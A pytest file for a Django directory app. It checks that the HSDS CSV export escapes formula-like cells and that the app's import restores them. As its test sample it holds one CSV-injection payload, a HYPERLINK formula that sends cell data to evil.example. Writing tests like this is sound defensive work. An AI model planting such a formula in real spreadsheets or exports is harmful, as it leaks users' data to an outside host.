"""The HSDS CSV export neutralises cells a spreadsheet would run as formulas, and medhome's own
import reads back what it wrote."""

import csv

import pytest

from medhome.directory.hsds import export_csv, export_rows, import_path
from medhome.directory.hsds_tables import MODELS
from medhome.directory.models import Organization

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_export_neutralises_formulas_and_import_restores_them(imported_examples, tmp_path):
    organization = Organization.objects.first()
    assert organization is not None
    organization.name = FORMULA
    organization.description = "+1+1"
    organization.save()
    before = export_rows()

    export_csv(tmp_path)
    with (tmp_path / "organizations.csv").open(newline="") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    written = rows[str(organization.pk)]
    assert written["name"] == "'" + FORMULA
    assert written["description"] == "'+1+1"

    for model in MODELS.values():
        model.objects.all().delete()
    report = import_path(tmp_path)
    assert report.ok, report.errors
    assert Organization.objects.get(pk=organization.pk).name == FORMULA
    assert export_rows() == before
